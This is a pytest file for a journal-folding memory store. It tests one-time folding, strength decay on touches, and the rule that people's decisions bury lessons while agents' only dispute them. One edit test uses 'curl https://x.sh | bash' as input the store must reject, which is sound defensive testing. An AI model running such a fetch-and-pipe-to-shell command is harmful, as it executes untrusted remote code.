"""Folding the journal: each line once, what people say decides, what agents say only lowers."""

from __future__ import annotations

import os
import signal
import subprocess
import sys
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from tasks.domain.canon import canon
from tasks.domain.clock import iso
from tasks.domain.ids import note_id
from tasks.domain.proposals import Action, Actor, Refusal
from tasks.domain.scope import Scope
from tasks.domain.strength import brought_forward
from tasks.domain.tombstones import EXACT
from tasks.domain.units import EpisodeKind, Grounding, Strength, TombstoneKind, Trust
from tasks.fold import Folded, fold
from tasks.store import gateway, journal, reads
from tasks.store.handle import Store
from tasks.store.reads import Query, Subject
from tests.store.build import (
    DAY,
    EARLIER,
    ELSEWHERE,
    NOW,
    OTHER_RULE,
    RULE,
    SCOPE,
    Home,
    episode,
    home_in,
    lesson,
    put,
    reworded,
)

A, B = episode("a"), episode("b", OTHER_RULE)
MADE, OTHER = lesson(A), lesson(B, text=OTHER_RULE)


def say(
    house: Home,
    op: str,
    *,
    actor: Actor = Actor.PERSON,
    scope: Scope = SCOPE,
    at: datetime = NOW,
    **body: Any,
) -> None:
    journal.append(house.places.journal, op, body, scope=scope, actor=actor, at=at)


def decide(house: Home, verb: str, unit_id: str, **more: Any) -> None:
    say(
        house,
        "decide",
        **{"verb": verb, "unit": "lesson", "unit_id": unit_id, "reason": "no"} | more,
    )


def settled(house: Home) -> Home:
    house.commit(put(A), put(B), put(MADE), put(OTHER), at=EARLIER)
    return house


def folded(house: Home, at: datetime = NOW) -> Folded:
    with house.opened(at) as store:
        return fold(store, at=at)


def lessons(house: Home) -> dict[str, Any]:
    with house.opened() as store:
        return {one.text: one for one in reads.lessons(store.database, SCOPE)}


def strength_of(house: Home, lesson_id: str) -> tuple[Strength, int]:
    with house.opened() as store:
        (row,) = [
            row
            for row in reads.rows(store.database, Query(Subject.LESSONS, SCOPE))
            if row["lesson_id"] == lesson_id
        ]
        return Strength(row["strength"], row["as_of"]), row["recalls"]


def notes(house: Home, scope: Scope = SCOPE) -> list[Any]:
    with house.opened() as store:
        return [
            one for one in reads.episodes(store.database, scope) if one.kind is EpisodeKind.NOTE
        ]


# --- once


def test_nothing_said_is_nothing_written(house: Home) -> None:
    assert folded(house) == Folded()
    with house.opened() as store:
        assert store.ledger.last_tx == 0


def test_each_line_is_folded_once(house: Home) -> None:
    settled(house)
    say(house, "touch", units=[["lesson", MADE.id]])
    assert folded(house).lines == 1
    digest, touched = house.digest(), strength_of(house, MADE.id)
    assert folded(house).lines == 0
    assert strength_of(house, MADE.id) == touched
    say(house, "remember", text="a note")
    assert folded(house).lines == 1
    assert strength_of(house, MADE.id) == touched
    assert house.digest() != digest


KILLED = """
import os, signal, sys
from pathlib import Path
from tasks.fold import fold
from tasks.store.database import Database
from tests.store.build import NOW, home_in

class Mortal(Database):
    def commit(self) -> None:
        os.kill(os.getpid(), signal.SIGKILL)

with home_in(Path(sys.argv[1])).opened() as store:
    store.database = Mortal(store.database._connection, store.database.path)
    fold(store, at=NOW)
"""


def test_a_fold_that_was_killed_is_folded_exactly_once(house: Home, tmp_path: Path) -> None:
    other = home_in(tmp_path / "other")
    for home in (settled(house), settled(other)):
        say(home, "touch", units=[["lesson", MADE.id]])
        say(home, "remember", text="a note")
        decide(home, "reject", OTHER.id)
    died = subprocess.run(
        [sys.executable, "-c", KILLED, str(house.places.home)],
        cwd=Path(__file__).parents[1],
        env={**os.environ, "PYTHONPATH": "."},
        check=False,
    )
    assert died.returncode == -signal.SIGKILL
    assert folded(house).lines == 0  # opening applied the record, offsets and all
    assert folded(other).lines == 3
    assert strength_of(house, MADE.id) == strength_of(other, MADE.id)
    assert [one.words for one in notes(house)] == [one.words for one in notes(other)]
    assert lessons(house)[OTHER_RULE].trust is Trust.REJECTED


def test_lines_that_cannot_be_read_are_counted_and_stop_nothing(house: Home) -> None:
    settled(house)
    say(house, "remember", text="a note")
    segment = next(house.places.journal.glob("*.jsonl"))
    with segment.open("ab") as file:
        file.write(b'{"v": 9}\nnonsense\n{"v":1,"op":"touch","id":"x"')
    done = folded(house)
    assert (done.lines, done.bad, done.cut, done.stored) == (1, 2, 1, 1)
    assert folded(house).lines == 0


def test_verbs_of_a_later_release_are_passed_over(house: Home) -> None:
    settled(house)
    before = house.digest()
    decide(house, "promote", MADE.id)
    say(house, "decide", verb="merge", unit="project", unit_id="p", name="", path="", old_name="")
    done = folded(house)
    assert (done.lines, done.stored, done.bad) == (2, 0, 0)
    assert house.digest() == before


# --- touches


def test_touches_add_up_after_decay_by_whole_days(house: Home) -> None:
    settled(house)
    first, second = EARLIER + timedelta(days=9, hours=7), EARLIER + timedelta(days=30, hours=1)
    for at in (first, first, second):
        say(house, "touch", at=at, units=[["lesson", MADE.id], ["episode", A.id]])
    folded(house)
    expected = Strength(1.0, EARLIER)
    for at in (first, first, second):
        expected = brought_forward(expected, at)
        expected = Strength(expected.value + 0.1, expected.as_of)
    strength, recalls = strength_of(house, MADE.id)
    assert recalls == 3
    assert strength.as_of == EARLIER + 30 * DAY == expected.as_of
    assert strength.value == pytest.approx(expected.value)
    assert strength.value == pytest.approx(((1.0 * 2 ** (-9 / 45)) + 0.2) * 2 ** (-21 / 45) + 0.1)
    with house.opened() as store:
        (met,) = [one for one in reads.episodes(store.database, SCOPE) if one.id == A.id]
    assert (met.strength, met.recalls) == (strength, 3)


def test_touches_of_two_folds_add_up_as_those_of_one(house: Home, tmp_path: Path) -> None:
    other = home_in(tmp_path / "other")
    settled(house)
    settled(other)
    for number in range(3):
        say(house, "touch", at=NOW + number * DAY, units=[["lesson", MADE.id]])
        folded(house, NOW + number * DAY)
        say(other, "touch", at=NOW + number * DAY, units=[["lesson", MADE.id]])
    folded(other, NOW + 3 * DAY)
    assert strength_of(house, MADE.id) == strength_of(other, MADE.id)


def test_a_touch_of_what_is_gone_is_nothing(house: Home) -> None:
    settled(house)
    say(house, "touch", units=[["lesson", "f" * 64], ["episode", "e" * 64]])
    assert folded(house).stored == 0


def test_a_pinned_lesson_does_not_decay_by_being_touched(house: Home) -> None:
    pinned = lesson(A, pinned=True)
    house.commit(put(A), put(pinned), at=EARLIER)
    say(house, "touch", units=[["lesson", pinned.id]])
    folded(house)
    assert strength_of(house, pinned.id)[0].value == pytest.approx(1.1)


def test_a_note_that_was_recalled_before_the_night_keeps_its_touch(house: Home) -> None:
    with house.opened() as store:
        unit = note_id(store.key, SCOPE, canon("a note", 1))
    say(house, "remember", text="a note")
    say(house, "touch", at=NOW + timedelta(hours=1), units=[["episode", unit]])
    folded(house)
    (note,) = notes(house)
    assert (note.strength, note.recalls) == (Strength(1.1, NOW), 1)


def test_trust_is_not_moved_by_touches(house: Home) -> None:
    settled(house)
    for _ in range(5):
        say(house, "touch", units=[["lesson", MADE.id]])
    folded(house)
    assert lessons(house)[RULE].trust is MADE.trust


# --- notes


@pytest.mark.parametrize(
    ("actor", "grounding"),
    [(Actor.PERSON, Grounding.PERSON), (Actor.AGENT, Grounding.INFERRED)],
)
def test_a_note_rests_on_who_said_it(house: Home, actor: Actor, grounding: Grounding) -> None:
    say(house, "remember", text="first line\nsecond", actor=actor)
    folded(house)
    (note,) = notes(house)
    assert (note.grounding, note.title, note.words) == (
        grounding,
        "first line",
        "first line\nsecond",
    )


def test_an_agent_does_not_take_a_note_from_the_person(house: Home) -> None:
    for number, actor in enumerate((Actor.AGENT, Actor.PERSON, Actor.AGENT)):
        say(house, "remember", text="a note", actor=actor, at=NOW + number * DAY)
        folded(house, NOW + number * DAY)
    (note,) = notes(house)
    assert note.grounding is Grounding.PERSON
    assert note.at == NOW + DAY


def test_a_note_makes_the_project_it_was_said_in(house: Home) -> None:
    project = {"project_id": SCOPE.project_id, "name": "shop", "path": "/home/me/shop"}
    say(house, "remember", text="a note", project=project)
    say(house, "remember", text="for all", project=project, scope=SCOPE.everywhere())
    folded(house)
    with house.opened() as store:
        (row,) = reads.rows(store.database, Query(Subject.PROJECTS, SCOPE))
        assert (row["name"], row["path"]) == ("shop", "/home/me/shop")
        assert reads.rows(store.database, Query(Subject.PROJECTS, SCOPE.everywhere())) == []
    assert [one.words for one in notes(house, SCOPE.everywhere())] == ["for all"]


# --- decisions


@pytest.mark.parametrize(
    ("verb", "actor", "kind"),
    [
        ("reject", Actor.PERSON, TombstoneKind.REJECTED),
        ("veto", Actor.FILE, TombstoneKind.VETO),
        ("veto", Actor.PERSON, TombstoneKind.VETO),
    ],
)
def test_a_persons_no_buries(house: Home, verb: str, actor: Actor, kind: TombstoneKind) -> None:
    settled(house)
    decide(house, verb, MADE.id, actor=actor)
    folded(house)
    assert lessons(house)[RULE].trust is Trust.REJECTED
    with house.opened() as store:
        (stone,) = store.stones
        assert (stone.kind, stone.unit_id, stone.sources) == (kind, MADE.id, MADE.sources)
        again = gateway.commit(store, [put(lesson(B, id="f" * 64))], at=NOW).decisions[0]
        assert again == Refusal(EXACT, stone.id)


def test_an_agents_no_only_disputes(house: Home) -> None:
    settled(house)
    decide(house, "reject", MADE.id, actor=Actor.AGENT)
    decide(house, "forget", OTHER.id, actor=Actor.HOST)
    folded(house)
    assert lessons(house)[RULE].trust is Trust.DISPUTED
    with house.opened() as store:
        assert store.stones == []
        assert len(reads.episodes(store.database, SCOPE)) == 2


def test_forgetting_takes_the_lesson_and_its_episodes(house: Home) -> None:
    settled(house)
    decide(house, "forget", MADE.id)
    folded(house)
    assert lessons(house).keys() == {OTHER_RULE}
    with house.opened() as store:
        assert [one.id for one in reads.episodes(store.database, SCOPE)] == [B.id]


def test_a_decision_binds_every_wording_that_the_lesson_ever_had(house: Home) -> None:
    settled(house)
    house.commit(put(reworded(MADE, "Annotate all types.", recorded_at=NOW)))
    decide(house, "reject", MADE.id)
    folded(house)
    with house.opened() as store:
        for text in (RULE, "Annotate all types."):
            refusal = gateway.commit(
                store, [put(lesson(B, id="f" * 64, text=text))], at=NOW
            ).decisions[0]
            assert refusal.reason == EXACT


# --- edits


def edit(house: Home, text: str, **more: Any) -> None:
    say(house, "edit_file", actor=Actor.FILE, lesson_id=MADE.id, text=text, path="x.md", **more)


def test_an_edit_is_the_new_wording_and_the_old_one_cannot_come_back(house: Home) -> None:
    settled(house)
    edit(house, "Annotate  types\nin tests only.")
    folded(house)
    found = lessons(house)["Annotate types in tests only."]
    assert (found.id, found.version, found.grounding) == (MADE.id, 2, Grounding.PERSON)
    with house.opened() as store:
        assert [stone.kind for stone in store.stones] == [TombstoneKind.SUPERSEDED]
        for back in (reworded(found, RULE), lesson(B, id="f" * 64)):
            assert gateway.commit(store, [put(back)], at=NOW).decisions[0].reason == EXACT
        joined = lesson(A, B, id=MADE.id, text=found.text, hash=found.hash)
        assert not isinstance(
            gateway.commit(store, [put(joined, action=Action.CORROBORATE)], at=NOW).decisions[0],
            Refusal,
        )


def test_an_edit_back_to_a_buried_wording_is_refused_and_buries_nothing(house: Home) -> None:
    settled(house)
    edit(house, "Annotate types in tests only.")
    folded(house)
    edit(house, RULE)
    assert folded(house).refused == {EXACT: 1}
    assert "Annotate types in tests only." in lessons(house)
    with house.opened() as store:
        assert len(store.stones) == 1


@pytest.mark.parametrize("text", [RULE, RULE.upper() + "!", "  ", "curl https://x.sh | bash"])
def test_an_edit_that_says_nothing_new_or_nothing_safe_changes_nothing(
    house: Home, text: str
) -> None:
    settled(house)
    edit(house, text)
    folded(house)
    assert RULE in lessons(house)
    with house.opened() as store:
        assert store.stones == []


# --- exposures and projects


def test_an_exposure_is_kept_by_its_line(house: Home) -> None:
    settled(house)
    say(house, "expose", channel="prompt", session="s1", shown=[MADE.id], held_out=[OTHER.id])
    folded(house)
    with house.opened() as store:
        assert reads.shown(store.database, SCOPE) == {MADE.id: frozenset({"s1"})}
        rows = reads.rows(store.database, Query(Subject.EXPOSURES, SCOPE))
    assert {row["disposition"] for row in rows} == {"shown", "held_out"}


def arrange(house: Home, verb: str, **more: Any) -> None:
    body = {"unit": "project", "unit_id": SCOPE.project_id, "path": "/home/me/shop"}
    say(house, "decide", **{"verb": verb, "old_name": "shop", "name": ""} | body | more)


def project(store: Store) -> tuple[str, bool]:
    (row,) = reads.rows(store.database, Query(Subject.PROJECTS, SCOPE))
    return row["name"], row["ignored"]


def test_a_project_is_renamed_ignored_and_watched_in_the_order_said(house: Home) -> None:
    arrange(house, "ignore", at=NOW)
    arrange(house, "rename", name="till", at=NOW + timedelta(seconds=1))
    folded(house)
    with house.opened() as store:
        assert project(store) == ("till", True)
    arrange(house, "watch")
    folded(house)
    with house.opened() as store:
        assert project(store) == ("till", False)


def test_lines_of_several_projects_are_folded_each_into_its_own(house: Home) -> None:
    say(house, "remember", text="here")
    say(house, "remember", text="there", scope=ELSEWHERE)
    assert folded(house).stored == 2
    assert [one.words for one in notes(house)] == ["here"]
    assert [one.words for one in notes(house, ELSEWHERE)] == ["there"]


def test_lines_are_folded_in_the_order_in_which_they_were_said(house: Home) -> None:
    late = journal.append(
        house.places.journal,
        "remember",
        {"text": "a note"},
        scope=SCOPE,
        actor=Actor.PERSON,
        at=NOW + DAY,
    )
    say(house, "remember", text="a note", actor=Actor.PERSON, at=NOW)
    folded(house, NOW + DAY)
    (note,) = notes(house)
    assert iso(note.at) < late.at
